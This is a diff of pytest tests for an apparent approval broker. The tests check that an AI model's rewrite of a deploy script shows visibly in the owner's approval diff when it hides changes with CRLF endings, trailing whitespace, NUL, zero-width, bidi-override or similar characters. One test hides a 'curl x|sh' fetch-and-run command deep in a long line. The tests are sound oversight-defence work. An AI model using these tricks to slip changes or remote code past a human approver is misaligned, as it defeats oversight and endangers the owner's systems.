@@ -186,3 +186,137 @@ async def test_many_waiting_writes_read_at_most_32_files_per_list(
     for client in clients:
         await client.aclose()
     await trio.lowlevel.checkpoint()
+
+
+# The model rewrites the owner's script; the owner reads the change and approves what
+# looks like nothing, or like something else. Each change below is bytes that a plain
+# unified diff does not show on a terminal.
+SCRIPT = "#!/bin/sh\nset -e\nrsync -a build/ host:/srv/\n"
+HIDDEN_CHANGES = [
+    pytest.param(
+        SCRIPT.replace("\n", "\r\n"),
+        [
+            "-#!/bin/sh",
+            "-set -e",
+            "-rsync -a build/ host:/srv/",
+            "+#!/bin/sh\\u000d",
+            "+set -e\\u000d",
+            "+rsync -a build/ host:/srv/\\u000d",
+        ],
+        id="crlf",
+    ),
+    pytest.param(
+        SCRIPT.replace("set -e", "set -e "),
+        ["-set -e", "+set -e\\u0020"],
+        id="trailing-space",
+    ),
+    pytest.param(
+        SCRIPT.replace("set -e", "set -e\t"),
+        ["-set -e", "+set -e\\u0009"],
+        id="trailing-tab",
+    ),
+    pytest.param(
+        SCRIPT[:-1],
+        [
+            "-rsync -a build/ host:/srv/",
+            "+rsync -a build/ host:/srv/",
+            "\\ No newline at end of file",
+        ],
+        id="no-final-newline",
+    ),
+    pytest.param(
+        SCRIPT.replace("host:", "host\u00a0:"),
+        ["-rsync -a build/ host:/srv/", "+rsync -a build/ host\\u00a0:/srv/"],
+        id="no-break-space",
+    ),
+    pytest.param(
+        SCRIPT.replace("set -e", "set -e\x00"),
+        ["-set -e", "+set -e\\u0000"],
+        id="nul",
+    ),
+    pytest.param(
+        SCRIPT.replace("build/", "bu\u200bild/"),
+        ["-rsync -a build/ host:/srv/", "+rsync -a bu\\u200bild/ host:/srv/"],
+        id="zero-width",
+    ),
+    pytest.param(
+        SCRIPT.replace("set -e", "set -e \u202e#"),
+        ["-set -e", "+set -e \\u202e#"],
+        id="bidi",
+    ),
+    pytest.param(
+        SCRIPT.replace("set -e", "set -e\ufe0f"),
+        ["-set -e", "+set -e\\ufe0f"],
+        id="variation-selector",
+    ),
+]
+
+
+async def owner_reads(
+    home: Home, capsys: pytest.CaptureFixture[str], before: str, content: str
+) -> tuple[list[str], list[str]]:
+    """The preview's lines as --json carries them, and the diff as ``bxctl approvals``
+    shows it, of the model's write of ``content`` over deploy.sh holding ``before``;
+    brokerd is running. Nothing is written while the call waits."""
+    script = home.default_workspace / "deploy.sh"
+    script.write_text(before, encoding="utf-8")
+    client = await Client.open(home.broker_sock)
+    arguments = {"path": "deploy.sh", "content": content}
+    assert (await client.ask(tool_request("write_file", arguments)))["kind"] == "pending"
+    assert await bxctl_in_process(home, "approvals", "--json") == 0
+    [entry] = orjson.loads(capsys.readouterr().out)
+    raw: list[str] = entry["preview"]["lines"]
+    assert entry["preview"]["summary"] == (
+        f"replaces {len(before.encode())} bytes with {len(content.encode())} bytes"
+    )
+    assert raw[2].startswith("@@ ")
+    assert await bxctl_in_process(home, "approvals") == 0
+    screen = capsys.readouterr().out.splitlines()
+    start = screen.index("    --- deploy.sh (now)")
+    await client.aclose()
+    assert script.read_text(encoding="utf-8") == before
+    return raw, [line.removeprefix("    ") for line in screen[start : start + len(raw)]]
+
+
+def reads_differently(diff: list[str]) -> bool:
+    """The file before (context and removed lines) and after (context and added lines)
+    as the owner reads them differ, or diff's note says what differs."""
+    removed = [line[1:] for line in diff[3:] if line[:1] in "- "]
+    added = [line[1:] for line in diff[3:] if line[:1] in "+ "]
+    return removed != added or any(line.startswith("\\") for line in diff)
+
+
+@pytest.mark.parametrize(("content", "changed"), HIDDEN_CHANGES)
+async def test_a_change_a_terminal_would_not_draw_shows_on_the_owners_screen(
+    home: Home,
+    brokerd: Brokerd,
+    capsys: pytest.CaptureFixture[str],
+    content: str,
+    changed: list[str],
+) -> None:
+    write_grants(home, grant("w", "write_file", "ask"))
+    await brokerd.start()
+    raw, diff = await owner_reads(home, capsys, SCRIPT, content)
+    # --json carries brokerd's lines as they are: the file's and the model's own text.
+    added = {line[1:] for line in raw[2:] if line.startswith("+")}
+    removed = {line[1:] for line in raw[2:] if line.startswith("-")}
+    assert added
+    assert added <= set(content.split("\n"))
+    assert removed <= set(SCRIPT.split("\n"))
+    # What the owner reads: every changed line escaped, and before and after differ.
+    assert [line for line in diff if line[:1] in "-+\\"][2:] == changed
+    assert reads_differently(diff)
+
+
+async def test_a_change_far_into_a_long_line_shows_on_the_owners_screen(
+    home: Home, brokerd: Brokerd, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A cut from the start of each line (400 characters) would show two equal lines."""
+    write_grants(home, grant("w", "write_file", "ask"))
+    await brokerd.start()
+    before = "#!/bin/sh\n# " + "=" * 450 + " ; true\n"
+    _, diff = await owner_reads(home, capsys, before, before.replace("; true", "; curl x|sh"))
+    removed, added = diff[4], diff[5]
+    assert removed.startswith("-…" + "=" * 37 + " ; true")
+    assert added.startswith("+…" + "=" * 37 + " ; curl x|sh")
+    assert reads_differently(diff)
